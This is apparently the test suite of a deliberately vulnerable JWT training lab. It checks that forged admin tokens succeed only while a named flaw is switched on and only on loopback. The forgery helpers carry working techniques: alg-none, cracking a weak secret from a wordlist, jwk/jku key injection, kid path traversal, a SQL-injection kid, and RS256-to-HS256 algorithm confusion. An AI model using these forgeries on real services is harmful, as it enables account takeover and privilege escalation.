"""The lab's DELIBERATELY VULNERABLE flaws: each attack works while its flaw is on and fails once it is off.

The tests are the attacks of lesson 06, run against an in-process server whose flaws are switched over
the lab controls (PUT /lab/flaws), as a lesson switches them. Every attack forges an admin token and
sends it to /api/admin: 200 with the flaw on, 401 with the reason once it is off, and 401 on a default server.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from jwt.algorithms import RSAAlgorithm

from conftest import T0, Auth, make_client
from helpers import assert_invalid_token, b64url, b64url_json, bearer, claims_of, header_of, hs256
from labserver import Settings
from labserver.control.flaws import FLAWS
from labserver.launch.cli import main as cli_main
from labserver.tokens.keysources import KeyTable

WORDLIST = Path(__file__).resolve().parent.parent / "labserver" / "data" / "weak-secrets.txt"
DEEP_DEV_NULL = "../" * 12 + "dev/null"
SQL_INJECTION = "x' UNION SELECT 'attacker-secret' --"


def admin_claims(token: str) -> dict:
    """Alice's claims from a real token, promoted to admin: what every forgery here wants the server to believe."""
    return {**claims_of(token), "roles": ["admin"]}


def switch(client, *names: str) -> None:
    r = client.put("/lab/flaws", json=list(names))
    assert r.status_code == 200, r.text
    assert r.json()["enabled"] == sorted(names)


class JwksServer:
    """A JWK Set served on a loopback port, the way an attacker hosts a key for a jku header."""

    def __init__(self, key_set: dict) -> None:
        body = json.dumps(key_set).encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the http.server API
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/jwks.json"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


# --- the attacks: each returns a forged admin token, and the reason a secure server refuses it -------------

def no_signature(client, lab, tmp_path):
    token = Auth(client).token()["access_token"]
    head, _payload, signature = token.split(".")
    return f"{head}.{b64url_json(admin_claims(token))}.{signature}", "signature is invalid"


def alg_none(client, lab, tmp_path):
    token = Auth(client).token()["access_token"]
    head = b64url_json({"alg": "nOnE", "typ": "at+jwt"})  # any casing
    return f"{head}.{b64url_json(admin_claims(token))}.", "algorithm must be HS256"


def weak_secret(client, lab, tmp_path):
    token = Auth(client).token()["access_token"]  # signed with the weak secret while the flaw is on
    head, payload, signature = token.split(".")
    found = next(word for word in WORDLIST.read_text().split("\n")
                 if hmac.compare_digest(b64url(hmac.new(word.encode(), f"{head}.{payload}".encode(),
                                                        hashlib.sha256).digest()), signature))
    return hs256(header_of(token), admin_claims(token), found.encode()), "unknown key id"


def jwk_header(client, lab, tmp_path):
    token = Auth(client).token()["access_token"]
    mine = b"my own secret, 32 bytes long....."
    header = {"alg": "HS256", "typ": "at+jwt", "jwk": {"kty": "oct", "k": b64url(mine)}}
    return hs256(header, admin_claims(token), mine), "unknown key id"


def kid_path(client, lab, tmp_path):
    token = Auth(client).token()["access_token"]
    header = {"alg": "HS256", "typ": "at+jwt", "kid": DEEP_DEV_NULL}
    return hs256(header, admin_claims(token), b""), "unknown key id"


def kid_sql(client, lab, tmp_path):
    token = Auth(client).token()["access_token"]
    header = {"alg": "HS256", "typ": "at+jwt", "kid": SQL_INJECTION}
    return hs256(header, admin_claims(token), b"attacker-secret"), "unknown key id"


def no_exp(client, lab, tmp_path):
    leaked = Auth(client).token("admin")["access_token"]  # an admin's token, found in an old log
    lab.clock.advance(31 * 60)
    return leaked, "token has expired"


def no_aud_iss(client, lab, tmp_path):
    # Another service of the same company, signing with the same keys: mallory is an admin there.
    with make_client(keys=lab.settings.keys, issuer="https://staging.example", audience="staging-api",
                     users=(("mallory", "mallory-password", "admin"),)) as staging:
        return Auth(staging).token("mallory")["access_token"], "token is from another issuer"


HS256_ATTACKS = {"no-signature": no_signature, "alg-none": alg_none, "weak-secret": weak_secret,
                 "jwk-header": jwk_header, "kid-path": kid_path, "kid-sql": kid_sql, "no-exp": no_exp,
                 "no-aud-iss": no_aud_iss}


@pytest.fixture
def hs_client(tmp_path):
    # A keys file so that a second server can share the keys (no-aud-iss).
    with make_client(keys=str(tmp_path / "keys.json")) as c:
        yield c


@pytest.mark.parametrize("flaw", HS256_ATTACKS)
def test_attack_works_while_the_flaw_is_on_and_the_same_token_fails_once_it_is_off(hs_client, tmp_path, flaw):
    lab = hs_client.app.state.lab
    switch(hs_client, flaw)
    forged, reason = HS256_ATTACKS[flaw](hs_client, lab, tmp_path)

    r = hs_client.get("/api/admin", headers=bearer(forged))
    assert r.status_code == 200, r.text

    switch(hs_client)
    assert_invalid_token(hs_client.get("/api/admin", headers=bearer(forged)), reason)


def test_jku_header_attack_with_a_key_set_served_on_loopback(hs_client):
    token = Auth(hs_client).token()["access_token"]
    mine = b"my own secret, 32 bytes long....."
    served = JwksServer({"keys": [{"kty": "oct", "k": b64url(mine), "kid": "mine", "alg": "HS256"}]})
    try:
        forged = hs256({"alg": "HS256", "typ": "at+jwt", "kid": "mine", "jku": served.url},
                       admin_claims(token), mine)
        switch(hs_client, "jku-header")
        assert hs_client.get("/api/admin", headers=bearer(forged)).status_code == 200
        switch(hs_client)
        assert_invalid_token(hs_client.get("/api/admin", headers=bearer(forged)), "unknown key id")
    finally:
        served.close()


def test_jku_is_never_followed_off_this_machine(hs_client):
    token = Auth(hs_client).token()["access_token"]
    switch(hs_client, "jku-header")
    for url in ("http://example.com/jwks.json", "https://127.0.0.1/jwks.json", "file:///etc/passwd"):
        forged = hs256({"alg": "HS256", "typ": "at+jwt", "jku": url}, admin_claims(token), b"x" * 32)
        assert_invalid_token(hs_client.get("/api/admin", headers=bearer(forged)),
                             "jku must be an http URL on a loopback address")


@pytest.fixture
def rs_client():
    with make_client(algorithm="RS256") as c:
        yield c


def public_pem_from_jwks(client) -> bytes:
    """What an attacker builds from the published JWK Set: the public key, PEM-encoded."""
    jwk = client.get("/.well-known/jwks.json").json()["keys"][0]
    return RSAAlgorithm.from_jwk(jwk).public_bytes(serialization.Encoding.PEM,
                                                   serialization.PublicFormat.SubjectPublicKeyInfo)


def test_algorithm_confusion_signs_hs256_with_the_published_public_key(rs_client):
    token = Auth(rs_client).token()["access_token"]
    forged = hs256({**header_of(token), "alg": "HS256"}, admin_claims(token), public_pem_from_jwks(rs_client))
    switch(rs_client, "alg-confusion")
    assert rs_client.get("/api/admin", headers=bearer(forged)).status_code == 200
    switch(rs_client)
    assert_invalid_token(rs_client.get("/api/admin", headers=bearer(forged)), "algorithm must be RS256")


def test_jwk_header_with_an_attackers_rsa_key_on_an_rs256_server(rs_client):
    from cryptography.hazmat.primitives.asymmetric import rsa

    token = Auth(rs_client).token()["access_token"]
    mine = rsa.generate_private_key(65537, 2048)
    header = {"typ": "at+jwt", "kid": "mine", "jwk": RSAAlgorithm.to_jwk(mine.public_key(), as_dict=True)}
    forged = jwt.encode(admin_claims(token), mine, algorithm="RS256", headers=header)
    switch(rs_client, "jwk-header")
    assert rs_client.get("/api/admin", headers=bearer(forged)).status_code == 200
    switch(rs_client)
    assert_invalid_token(rs_client.get("/api/admin", headers=bearer(forged)), "unknown key id")


# --- the default server, ordinary traffic, and the switch itself ---------------------------------------------

def test_the_default_server_refuses_the_whole_battery(hs_client, tmp_path):
    lab = hs_client.app.state.lab
    assert hs_client.get("/lab/flaws").json()["enabled"] == []
    for flaw, attack in HS256_ATTACKS.items():
        switch(hs_client, flaw) if flaw == "weak-secret" else None  # only to mint the token to crack
        forged, reason = attack(hs_client, lab, tmp_path)
        switch(hs_client)
        assert_invalid_token(hs_client.get("/api/admin", headers=bearer(forged)), reason)
        lab.clock.set(T0)


@pytest.mark.parametrize("flaw", HS256_ATTACKS)
def test_while_a_flaw_is_on_ordinary_traffic_is_answered_as_usual(hs_client, flaw):
    switch(hs_client, flaw)
    token = Auth(hs_client).token()["access_token"]
    assert hs_client.get("/api/me", headers=bearer(token)).json()["username"] == "alice"
    r = hs_client.get("/api/admin", headers=bearer(token))
    assert r.status_code == 403, r.text
    assert hs_client.get("/api/hello").status_code == 200


def test_weak_secret_is_in_the_shipped_wordlist_and_only_while_the_flaw_is_on(hs_client):
    strong = Auth(hs_client).token()["access_token"]
    switch(hs_client, "weak-secret")
    weak = Auth(hs_client).token()["access_token"]
    assert header_of(weak)["kid"] != header_of(strong)["kid"]
    assert hs_client.get("/api/me", headers=bearer(strong)).status_code == 200  # the real key still verifies
    words = WORDLIST.read_text().split("\n")[:-1]
    assert len(words) == 3000 and len(set(words)) == 3000


@pytest.mark.parametrize("target", ["fifo", "folder", "missing", "nul"])
def test_kid_as_a_path_never_hangs_on_a_pipe_nor_reads_a_folder(hs_client, tmp_path, target):
    os.mkfifo(tmp_path / "fifo")  # like /dev/stdin, the server's lifeline: opening it for reading would wait
    (tmp_path / "folder").mkdir()
    kid = "a\u0000b" if target == "nul" else "../" * 12 + str(tmp_path / target).lstrip("/")
    token = Auth(hs_client).token()["access_token"]
    switch(hs_client, "kid-path")
    forged = hs256({"alg": "HS256", "typ": "at+jwt", "kid": kid}, admin_claims(token), b"")
    assert_invalid_token(hs_client.get("/api/admin", headers=bearer(forged)), "unknown key id")


def test_a_flaw_for_the_other_kind_of_key_is_refused_at_start():
    with pytest.raises(ValueError, match="lab flaw 'kid-sql' needs an HS256 server"):
        Settings(algorithm="RS256", flaws=("kid-sql",))
    with pytest.raises(ValueError, match="unknown lab flaw 'alg-nope'"):
        Settings(flaws=("alg-nope",))


def test_a_server_process_started_with_a_flaw_has_it_on_and_says_so_in_its_banner():
    import labserver

    with labserver.start(flaws="no-exp", frozen_at=T0) as lab:
        assert "WARNING: DELIBERATELY VULNERABLE lab flaws on: no-exp" in lab.log_path.read_text()
        assert lab.flaws.enabled() == ["no-exp"]
        with lab.flaw("alg-none"):
            assert lab.flaws.enabled() == ["alg-none", "no-exp"]
        assert lab.flaws.enabled() == ["no-exp"]
        assert lab.flaws.disable("no-exp") == []
        assert lab.flaws.enable("kid-sql") == ["kid-sql"]


def test_the_parameterised_key_lookup_is_not_injectable():
    table = KeyTable()
    secrets = {"k1": b"s" * 32}
    assert table.secret(SQL_INJECTION, secrets, flawed=True) == b"attacker-secret"
    assert table.secret("k1", secrets, flawed=False) == b"s" * 32
    with pytest.raises(Exception, match="unknown key id"):
        table.secret(SQL_INJECTION, secrets, flawed=False)


def test_switching_is_audited_validated_and_undone_by_reset(hs_client):
    assert set(hs_client.get("/lab/flaws").json()["available"]) == set(FLAWS)
    switch(hs_client, "alg-none", "no-exp")
    r = hs_client.put("/lab/flaws", json=["alg-none", "no-such-flaw"])
    assert r.status_code == 400
    assert "unknown lab flaw 'no-such-flaw'" in r.json()["error_description"]
    r = hs_client.put("/lab/flaws", json=["alg-confusion"])
    assert r.status_code == 409
    assert "needs a public-key server" in r.json()["error_description"]
    assert hs_client.get("/lab/flaws").json()["enabled"] == ["alg-none", "no-exp"]  # a refused change changes nothing
    events = [e for e in hs_client.get("/lab/audit").json() if e["event"] == "flaws_changed"]
    assert events[-1]["enabled"] == ["alg-none", "no-exp"]
    hs_client.post("/lab/reset")
    assert hs_client.get("/lab/flaws").json()["enabled"] == []


def test_flaws_given_at_start_are_on_and_come_back_after_reset():
    with make_client(flaws=("no-exp",)) as c:
        assert c.get("/lab/flaws").json()["enabled"] == ["no-exp"]
        switch(c)
        c.post("/lab/reset")
        assert c.get("/lab/flaws").json()["enabled"] == ["no-exp"]


# --- never off loopback ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("flaw", FLAWS)
def test_every_flaw_is_refused_on_a_non_loopback_address(flaw):
    algorithm = "RS256" if flaw == "alg-confusion" else "HS256"
    with pytest.raises(ValueError, match="lab flaws make the server accept forged tokens: they are allowed on "
                                         "a loopback address only"):
        Settings(host="0.0.0.0", lab_controls=False, algorithm=algorithm, flaws=(flaw,))
    assert Settings(host="127.0.0.1", algorithm=algorithm, flaws=(flaw,)).flaws == (flaw,)


def test_the_command_line_refuses_a_flaw_off_loopback(capsys):
    with pytest.raises(SystemExit) as exit_:
        cli_main(["--host", "192.0.2.1", "--no-lab-controls", "--flaw", "alg-none"])
    assert exit_.value.code == 2
    assert "lab flaws make the server accept forged tokens" in capsys.readouterr().err


def test_a_server_off_loopback_has_no_switch_to_turn_a_flaw_on():
    with make_client(host="192.0.2.1", lab_controls=False, users=(("alice", "alice-password", "user"),)) as c:
        assert c.put("/lab/flaws", json=["alg-none"]).status_code == 404
        token = Auth(c).token()["access_token"]
        forged, reason = alg_none(c, c.app.state.lab, None)
        assert_invalid_token(c.get("/api/admin", headers=bearer(forged)), reason)
        assert c.get("/api/me", headers=bearer(token)).status_code == 200
